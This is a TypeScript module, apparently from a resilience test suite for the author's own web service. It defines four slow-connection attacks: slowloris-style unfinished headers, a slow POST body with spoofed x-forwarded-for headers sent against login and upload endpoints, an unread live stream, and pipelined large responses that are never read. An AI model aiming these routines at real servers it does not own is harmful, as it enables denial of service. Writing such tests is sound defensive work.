import { type HostileAttack, pickRandomTestGuestIpAddress, pickRandomItemInHostileTest } from './attack.ts';
import { sendSlowUnfinishedRequest } from './rawConnection.ts';

const lifeMs = 20_000;

const slowHeaders: HostileAttack = {
  name: 'unfinished headers',
  share: 1,
  run: ({ target }) =>
    sendSlowUnfinishedRequest(target, {
      first: 'GET / HTTP/1.1\r\nhost: x\r\n',
      then: 'x-more: 1\r\n',
      everyMs: 1000,
      lifeMs,
    }),
};

const slowBody: HostileAttack = {
  name: 'an unfinished body',
  share: 1,
  run: (context) => {
    const { token, from } = pickRandomItemInHostileTest(context, context.accounts);
    const path = pickRandomItemInHostileTest(context, [
      '/upload',
      '/api/auth/login',
      '/api/rfq/send',
      '/api/providers/match-requirements',
    ]);
    const first =
      `POST ${path} HTTP/1.1\r\nhost: x\r\nx-forwarded-for: ${from}\r\nauthorization: Bearer ${token}\r\n` +
      `content-type: ${path === '/upload' ? 'multipart/form-data; boundary=b' : 'application/json'}\r\n` +
      `content-length: 200000\r\n\r\n{"email":"`;
    return sendSlowUnfinishedRequest(context.target, { first, then: 'x', everyMs: 500, lifeMs });
  },
};

const slowReader: HostileAttack = {
  name: 'an unread live stream',
  share: 1,
  run: (context) => {
    const { token, from } = pickRandomItemInHostileTest(context, context.accounts);
    const first = `GET /api/live HTTP/1.1\r\nhost: x\r\nx-forwarded-for: ${from}\r\nauthorization: Bearer ${token}\r\n\r\n`;
    return sendSlowUnfinishedRequest(context.target, { first, then: '', everyMs: 500, lifeMs });
  },
};

const unreadAnswers: HostileAttack = {
  name: 'large responses that are requested and not read',
  share: 1,
  run: (context) => {
    const one = `GET /api/providers HTTP/1.1\r\nhost: x\r\nx-forwarded-for: ${pickRandomTestGuestIpAddress(context)}\r\n\r\n`;
    return sendSlowUnfinishedRequest(context.target, { first: one.repeat(50), then: '', everyMs: 500, lifeMs });
  },
};

/** Attacks that keep connections open by sending requests slowly or by not reading the responses. */
export const slowConnectionAttacks: readonly HostileAttack[] = [slowHeaders, slowBody, slowReader, unreadAnswers];
